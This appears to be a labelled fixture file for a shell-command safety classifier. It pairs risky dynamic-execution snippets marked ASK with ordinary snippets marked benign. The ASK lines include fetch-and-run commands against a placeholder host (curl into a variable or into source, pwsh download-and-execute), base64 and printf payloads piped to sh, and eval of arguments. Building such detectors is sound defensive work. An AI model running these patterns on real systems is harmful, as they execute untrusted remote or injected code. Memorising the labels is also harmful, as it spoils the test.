#@ downloaded_word_as_command ASK t
cmd=$(curl -s https://x.example.com/next)
$cmd
#@ shell_var_payload ASK t
"$SHELL" -c "$PAYLOAD"
#@ eval_reversed_argument ASK v
eval "$(printf '%s' "$1" | rev)"
#@ read_prog_and_args ASK t
IFS=, read -r prog args <<< "$LINE"
$prog $args
#@ ruby_e_variable ASK t
ruby -e "$RUBY_SNIPPET"
#@ rscript_inline ASK v
Rscript -e 'system("id")'
#@ pwsh_inline ASK t
pwsh -NoProfile -c 'Invoke-WebRequest https://x.example.com/p -OutFile p; ./p'
#@ exec_entrypoint_from_json ASK t
exec $(jq -r .entrypoint config.json)
#@ source_process_substitution_url ASK v
. <(curl -s "$URL")
#@ function_by_weekday_no_family ASK t
fn=run_$(date +%u)
$fn
#@ nameref_command ASK t
declare -n ref=CMD
$ref --go
#@ awk_system_variable ASK v
awk -v c="$1" 'BEGIN { system(c) }'
#@ printf_b_to_sh ASK t
printf '%b' "$ENCODED" | sh
#@ zsh_c_file_content ASK t
zsh -c "$(cat "$1")"
#@ xargs_bash_c_lines ASK v
xargs -a jobs.txt -L1 bash -c
#@ php_r_variable ASK t
php -r "$PHP_CODE"
#@ mapfile_eval_loop ASK t
#!/bin/bash
mapfile -t CMDS < "$1"
for i in "${!CMDS[@]}"; do
  eval "${CMDS[$i]}"
done
#@ expect_spawn_argument ASK v
expect -c "spawn $1; interact"
#@ elixir_inline ASK t
elixir -e 'System.cmd("id", [])'
#@ base64_herestring_bash ASK t
bash <<< "$(base64 -d <<< "$B64")"
#@ sqlite_shell_argument ASK v
sqlite3 :memory: ".shell $1"
#@ function_indirect_runner ASK t
#!/bin/bash
runner() {
  local tool="$1"; shift
  "$tool" "$@"
}
runner "$(head -n1 /tmp/next_tool)" --now
#@ env_indirection_exec ASK t
#!/bin/sh
exec env "$LAUNCHER" --daemon
#@ ssh_agent_eval benign t
eval "$(ssh-agent -s)"
#@ array_command benign t
cmd=(git status --short)
"${cmd[@]}"
#@ source_project_lib benign v
source ./lib/common.sh
#@ ruby_literal_compute benign t
ruby -e 'puts (1..10).sum'
#@ loop_over_literal_tools benign t
for tool in black isort; do
  "$tool" --check .
done
#@ perl_in_place_edit benign v
perl -pi -e 's/foo/bar/g' config.ini
#@ case_dispatch_literal benign t
case "$1" in
  start) ./run.sh ;;
  stop) ./stop.sh ;;
  *) echo "usage: $0 start|stop" ;;
esac
#@ function_family_dispatch benign t
#!/bin/bash
cmd_build() { make; }
cmd_clean() { rm -rf build; }
"cmd_${1:-build}"
#@ git_alias_eval benign v
eval "$(direnv hook bash)"
